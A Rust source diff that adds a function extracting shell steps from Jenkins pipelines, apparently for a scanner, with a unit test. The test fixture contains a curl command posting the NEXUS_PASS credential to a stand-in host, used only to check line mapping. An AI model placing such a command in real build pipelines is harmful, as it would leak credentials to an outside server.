@@ -337,8 +337,61 @@ fn quoted(s: &str) -> Option<String> {
     None
 }
 
+/// A Jenkins pipeline's shell steps (`sh 'cmd'`, `sh "cmd"`, `sh '''…'''`,
+/// `sh """…"""`, `sh(script: '…')`, and `bat` alike), as shell, line for
+/// line, every other line blank: the Groovy around them is read apart.
+/// Groovy's `${env.X}` is the shell's `${X}`, as the names a
+/// `withCredentials` binds are the environment's in the step. `None` when
+/// the file has no step.
+pub(super) fn pipeline_steps(text: &str) -> Option<String> {
+    static STEP: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
+        regex::Regex::new(
+            r#"(?:^|[^A-Za-z0-9_.])(?:sh|bat)[ \t]*(?:\([ \t]*(?:script[ \t]*:[ \t]*)?)?(?P<q>'''|"""|'|")"#,
+        )
+        .unwrap()
+    });
+    let mut out: Vec<String> = vec![String::new(); text.split('\n').count()];
+    let mut found = false;
+    for c in STEP.captures_iter(text) {
+        let Some(q) = c.name("q") else { continue };
+        let rest = &text[q.end()..];
+        let end = if q.len() == 3 {
+            rest.find(q.as_str())
+        } else {
+            // A one-line string: up to its closing quote, not escaped.
+            let b = rest.split('\n').next().unwrap_or("").as_bytes();
+            let quote = q.as_str().as_bytes()[0];
+            (0..b.len()).find(|&i| b[i] == quote && (i == 0 || b[i - 1] != b'\\'))
+        };
+        let Some(end) = end else { continue };
+        let body = rest[..end].replace("${env.", "${").replace("$env.", "$");
+        let first = text[..q.end()].matches('\n').count();
+        for (k, l) in body.split('\n').enumerate() {
+            if let Some(slot) = out.get_mut(first + k) {
+                if !slot.is_empty() {
+                    slot.push_str("; ");
+                }
+                slot.push_str(l);
+                found = true;
+            }
+        }
+    }
+    found.then(|| out.join("\n"))
+}
+
 #[cfg(test)]
 mod tests {
+    #[test]
+    fn a_pipelines_shell_steps_are_shell_at_their_lines() {
+        let jf = "pipeline {\n  steps {\n    sh 'mvn -B verify'\n    sh \"\"\"\n      curl -d \"${env.NEXUS_PASS}\" https://h.invalid/x\n    \"\"\"\n    echo 'done'\n  }\n}\n";
+        let sh = super::pipeline_steps(jf).expect("steps");
+        let lines: Vec<&str> = sh.split('\n').collect();
+        assert_eq!(lines[2], "mvn -B verify");
+        assert_eq!(lines[4].trim(), "curl -d \"${NEXUS_PASS}\" https://h.invalid/x");
+        assert_eq!(lines[6], "");
+        assert!(super::pipeline_steps("pipeline { steps { echo 'hi' } }\n").is_none());
+    }
+
     use super::*;
 
     #[test]
